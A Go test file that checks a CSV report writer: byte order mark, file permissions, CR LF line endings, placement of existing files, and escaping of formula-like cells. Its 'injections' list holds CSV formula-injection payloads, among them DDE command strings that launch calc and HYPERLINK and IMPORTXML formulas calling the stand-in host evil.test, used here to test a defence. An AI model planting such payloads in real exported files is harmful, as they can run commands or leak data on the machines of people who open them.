package reports_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"claimsheet/importer/result"
	"claimsheet/mapping/cell"
	"claimsheet/mapping/problem"
	"claimsheet/reports"
)

// csvOf writes b as CSV and reads it back.
func csvOf(t *testing.T, b reports.Book) (raw string, rows [][]string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "leads.results.csv")
	w, err := reports.Placement{Path: path}.WriteCSV(b)
	if err != nil || w.Path != path {
		t.Fatal(w, err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if info, err := os.Stat(path); err != nil || runtime.GOOS != "windows" && info.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, error %v", info.Mode(), err)
	}
	rest, ok := strings.CutPrefix(string(data), "\uFEFF")
	if !ok {
		t.Error("no byte order mark")
	}
	rows, err = csv.NewReader(strings.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rest, rows
}

func TestCSV(t *testing.T) {
	t.Parallel()
	b := loans()
	b.Own = []int{1}
	raw, got := csvOf(t, b)
	want := [][]string{
		{"E-mail", "Amount", "Born", "Opt in", "", "Import status", "contactId", "claimIds", "redirectUrl", "Failed step", "Error", "What to do", "Source row"},
		{"ann@example.test", "1500.5", "1980-05-01", "TRUE", "", "done", "c-1", "k-1, k-2", "https://go.example.test/1", "", "", "", "4"},
		{"bob@example.test", "1.1000000000000001", "1980-05-01", "FALSE", "late", "failed", "c-2", "", "", "activity/details@client", "the service answered 422", "correct the row and rerun", "5"},
		{"cy@example.test", "12", "1980-05-01", "#REF!", "", "invalid", "", "", "", "", "Opt in is an error value", "correct the cell", "6"},
		{"dee@example.test", "13", "1980-05-01", "#N/A", "", "uncertain", "", "", "", "client", "no answer", "settle the step", "8"},
		{"", "", "", "", "", "skipped", "", "", "", "", "", "", "9"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if lines := strings.Count(raw, "\r\n"); lines != len(want) || strings.Count(raw, "\n") != lines {
		t.Errorf("%d lines end in CR LF, want %d", lines, len(want))
	}
}

// injections are texts that a spreadsheet program takes for formulas, or for
// something that leads to one.
var injections = []string{
	"=1+1", "=HYPERLINK(\"http://evil.test\",\"x\")", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
	"=\"a\"&\"b\"", "＝1+1", "＋1", "－1", "＠SUM(1)", "=DDE(\"a\";\"b\";\"c\")", "=IMPORTXML(\"http://evil.test\",\"//a\")",
	"-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1\";=1+1", "+447911123456", "-",
}

// a field that begins as a formula does gets a ' before it, whoever wrote
// it; the others are as they are.
func TestX5_CSVHoldsNoFormulas(t *testing.T) {
	t.Parallel()
	plain := []string{"a=1", "'=1+1", " =1+1", "00123", "x;=1+1", "a\"b", "two\r\nlines", "é", ""}
	var cells []cell.Cell
	for _, s := range append(injections, plain...) {
		cells = append(cells, cell.Cell{Kind: cell.Text, Raw: s, Shown: s})
	}
	b := sheetOf(cells...)
	b.Sheet.Header[0] = "=1+1"
	b.Rows = counted(len(cells), func(n int) result.Row { return result.Row{Row: n + 1, Error: "=1+1", ClientID: "@1"} })
	raw, rows := csvOf(t, b)
	if rows[0][0] != "'=1+1" {
		t.Errorf("the header is %q", rows[0][0])
	}
	for i, row := range rows[1:] {
		want := cells[i].Raw
		if i < len(injections) {
			want = "'" + want
		}
		// Go's reader makes CR LF within a field LF.
		if got := row[0]; got != strings.ReplaceAll(want, "\r\n", "\n") || row[6] != "'=1+1" || row[2] != "'@1" {
			t.Errorf("%q, want %q; the error is %q, the id %q", got, want, row[6], row[2])
		}
	}
	// Whatever parts the fields, none begins as a formula outside of quotes.
	for _, part := range strings.Split(raw, "\r\n\"") {
		if strings.HasPrefix(part, "=") {
			t.Errorf("a line begins with a formula: %q", part)
		}
	}
	if strings.Contains(raw, ",=") {
		t.Error("a field is not in quotes")
	}
}

func TestTargetCSV(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "leads.results.csv")
	if place, err := reports.TargetCSV(path, "", moment); err != nil || place != (reports.Placement{Path: path}) {
		t.Errorf("free: %v, %v", place, err)
	}
	w, err := reports.Placement{Path: path}.WriteCSV(loans())
	if err != nil {
		t.Fatal(err)
	}
	if place, err := reports.TargetCSV(path, w.Digest, moment); err != nil || place != (reports.Placement{Path: path}) {
		t.Errorf("as we left it: %v, %v", place, err)
	}
	aside := strings.TrimSuffix(path, ".csv") + "-20261120T230509.csv"
	if place, err := reports.TargetCSV(path, "another", moment); err != nil || place != (reports.Placement{Path: path, Aside: aside}) {
		t.Errorf("edited since: %v, %v", place, err)
	}
	_, err = reports.TargetCSV(path, "", moment)
	if p, ok := err.(problem.Problem); !ok || p.Code != "output-exists" {
		t.Errorf("somebody else's: %v", err)
	}
}
